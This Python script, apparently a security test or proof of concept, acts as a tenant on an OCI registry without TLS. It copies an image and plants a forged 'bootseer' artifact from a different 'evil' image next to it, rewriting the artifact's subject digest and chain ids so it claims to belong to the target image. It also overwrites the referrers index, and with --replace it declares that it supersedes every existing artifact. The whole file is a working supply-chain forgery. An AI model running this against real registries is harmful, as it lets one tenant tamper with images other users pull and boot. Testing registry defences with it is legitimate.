#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What a tenant does who may push to a repository of his own, and no more.

    forge-tenant.py HOST:PORT IMAGE EVIL TARGET [--replace]

IMAGE, EVIL and TARGET are REPOSITORY:TAG of one registry without TLS.  The image
IMAGE is copied, unchanged, to TARGET (which may be IMAGE itself), and beside it
lies the artifact of the converted image EVIL, made to say that it is that of
IMAGE: its subject and its chain ids.  With --replace it says as well that it
replaces all artifacts that TARGET has.  Prints the digest of the forgery.
"""
import hashlib
import json
import sys
import urllib.error
import urllib.request

ARTIFACT = "application/vnd.bootseer.image.v1"
MANIFEST = "application/vnd.oci.image.manifest.v1+json"
INDEX = "application/vnd.oci.image.index.v1+json"


def call(method, url, body=None, kind=None):
    request = urllib.request.Request(url, data=body, method=method)
    request.add_header("Accept", ", ".join([MANIFEST, INDEX]))
    if kind:
        request.add_header("Content-Type", kind)
    return urllib.request.urlopen(request, timeout=60)


class Repository:
    def __init__(self, host, name):
        self.base = "http://%s/v2/%s" % (host, name)
        self.host = host

    def manifest(self, ref):
        return call("GET", "%s/manifests/%s" % (self.base, ref)).read()

    def blob(self, digest):
        return call("GET", "%s/blobs/%s" % (self.base, digest)).read()

    def put_manifest(self, ref, body, kind=MANIFEST):
        call("PUT", "%s/manifests/%s" % (self.base, ref), body, kind)

    def put_blob(self, body):
        digest = digest_of(body)
        where = call("POST", self.base + "/blobs/uploads/", b"")
        url = where.headers["Location"]
        call("PUT", url + ("&" if "?" in url else "?") + "digest=" + digest,
             body, "application/octet-stream")
        return digest

    def referrers(self, subject):
        """The index behind the fallback tag of the distribution-spec."""
        try:
            return json.loads(self.manifest(subject.replace(":", "-")))
        except urllib.error.HTTPError:
            return {"schemaVersion": 2, "mediaType": INDEX, "manifests": []}


def digest_of(body):
    return "sha256:" + hashlib.sha256(body).hexdigest()


def chain_ids(config):
    ids = []
    for diff in json.loads(config)["rootfs"]["diff_ids"]:
        ids.append(digest_of((ids[-1] + " " + diff).encode()) if ids else diff)
    return ids


def copy_image(source, tag, target, target_tag):
    """The manifest as text; layers that are there already are pushed again."""
    text = source.manifest(tag)
    image = json.loads(text)
    for one in [image["config"]] + image["layers"]:
        target.put_blob(source.blob(one["digest"]))
    target.put_manifest(target_tag, text)
    return text


def forge(source, evil, evil_tag, target, text, replace):
    subject = digest_of(text)
    found = evil.referrers(digest_of(evil.manifest(evil_tag)))
    own = [m["digest"] for m in found["manifests"]
           if m.get("artifactType") == ARTIFACT]
    artifact = json.loads(evil.manifest(own[0]))
    config = json.loads(evil.blob(artifact["config"]["digest"]))
    config["chainIds"] = chain_ids(
        source.blob(json.loads(text)["config"]["digest"]))
    config["image"] = subject
    body = json.dumps(config).encode()
    artifact["config"].update(digest=target.put_blob(body), size=len(body))
    artifact["subject"].update(digest=subject, size=len(text))
    for one in artifact["layers"]:
        target.put_blob(evil.blob(one["digest"]))
    index = target.referrers(subject)
    if replace:
        artifact.setdefault("annotations", {})["dev.bootseer.replaces"] = \
            " ".join(m["digest"] for m in index["manifests"])
    body = json.dumps(artifact).encode()
    digest = digest_of(body)
    target.put_manifest(digest, body)
    index["manifests"].append({
        "mediaType": MANIFEST, "digest": digest, "size": len(body),
        "artifactType": ARTIFACT})
    target.put_manifest(subject.replace(":", "-"), json.dumps(index).encode(),
                        INDEX)
    return digest


def main():
    host = sys.argv[1]
    names = [a.rsplit(":", 1) for a in sys.argv[2:5]]
    source, evil, target = [Repository(host, name) for name, _ in names]
    if names[0] == names[2]:
        text = source.manifest(names[0][1])
    else:
        text = copy_image(source, names[0][1], target, names[2][1])
    print(forge(source, evil, names[1][1], target, text,
                "--replace" in sys.argv))


main()
